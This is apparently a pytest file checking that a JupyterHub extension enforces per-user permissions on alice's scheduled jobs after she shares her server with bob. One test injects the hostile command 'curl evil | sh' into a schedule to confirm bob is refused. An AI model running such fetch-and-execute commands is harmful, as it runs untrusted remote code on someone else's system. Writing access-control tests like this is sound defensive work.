"""Schedules on a real JupyterHub: alice's schedules on her server, as bob sees them once
she shares the server with him (REST through the Hub's proxy, with each user's own token).

alice makes three schedules: one granting bob CAN_VIEW, one granting his Hub group
``ml-team`` CAN_MANAGE (pause, resume, delete), one private. Bob lists only the two
granted to him, each with his level; he is refused the private one with who can grant
it, refused a pause where he may only view, may pause where his group may; and he may
never create a schedule on alice's server nor rewrite one, since it would run as alice.
The schedules are paused and their crons far off: nothing fires.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from jupyter_air.schedules import scheduler
from tests.hub import Hub

pytestmark = pytest.mark.browser

API = "user/alice/jupyter-air/schedules"


def schedule_file(name: str, grant: str | None) -> str:
    grants = f"permissions: [{grant!r}]\n" if grant else ""
    return (
        f"name: {name}\n"
        "schedule: {cron: '0 2 1 1 *', pause_status: PAUSED}\n"
        f"{grants}"
        "tasks:\n"
        "  - task_key: t\n"
        "    workload: {command: 'python -c pass'}\n"
    )


@pytest.fixture(scope="module")
def made(hub: Hub) -> Iterator[dict[str, str]]:
    """alice's three schedules (name -> id); her server shared with bob."""
    hub.start_server("alice")
    ids = {}
    for name, grant in [
        ("for-bob", "bob:CAN_VIEW"),
        ("for-team", "group:ml-team:CAN_MANAGE"),
        ("private", None),
    ]:
        response = hub.as_user("alice", "POST", API, {"yaml": schedule_file(name, grant)})
        assert response.status == 201, response
        ids[name] = response.body["id"]
    hub.share("alice", "bob")
    yield ids
    scheduler.stop(hub.work / "air" / "alice")


def test_bob_lists_only_the_schedules_granted_to_him_with_his_level(
    hub: Hub, made: dict[str, str]
) -> None:
    mine = hub.as_user("alice", "GET", API)
    assert {s["name"] for s in mine.body["schedules"]} == {"for-bob", "for-team", "private"}
    listed = hub.as_user("bob", "GET", API)
    assert listed.status == 200, listed
    assert [(s["name"], s["owner"], s["level"]) for s in listed.body["schedules"]] == [
        ("for-bob", "alice", "CAN_VIEW"),
        ("for-team", "alice", "CAN_MANAGE"),  # through his Hub group
    ]


def test_bob_is_refused_the_private_schedule_with_who_can_grant_it(
    hub: Hub, made: dict[str, str]
) -> None:
    refused = hub.as_user("bob", "GET", f"{API}/{made['private']}")
    assert refused.status == 403, refused
    assert "its owner, alice, can grant it" in refused.body["error"]["message"]
    runs = hub.as_user("bob", "GET", f"{API}/{made['private']}/runs")
    assert runs.status == 403


def test_bob_acts_as_his_level_allows(hub: Hub, made: dict[str, str]) -> None:
    viewer = hub.as_user("bob", "POST", f"{API}/{made['for-bob']}/resume", {})
    assert viewer.status == 403, viewer
    assert "CAN_MANAGE" in viewer.body["error"]["message"]
    manager = hub.as_user("bob", "POST", f"{API}/{made['for-team']}/resume", {})
    assert manager.status == 200, manager
    assert manager.body["pause_status"] == "UNPAUSED"
    paused = hub.as_user("bob", "POST", f"{API}/{made['for-team']}/pause", {})
    assert paused.body["pause_status"] == "PAUSED"


def test_bob_cannot_make_alices_server_run_his_commands(hub: Hub, made: dict[str, str]) -> None:
    evil = schedule_file("bobs", None).replace("python -c pass", "curl evil | sh")
    created = hub.as_user("bob", "POST", API, {"yaml": evil})
    assert created.status == 403, created
    assert "only alice can" in created.body["error"]["message"]
    rewritten = hub.as_user("bob", "PUT", f"{API}/{made['for-team']}", {"yaml": evil})
    assert rewritten.status == 403, rewritten
    kept = hub.as_user("alice", "GET", f"{API}/{made['for-team']}")
    assert kept.body["name"] == "for-team"
    assert {s["name"] for s in hub.as_user("alice", "GET", API).body["schedules"]} == {
        "for-bob",
        "for-team",
        "private",
    }
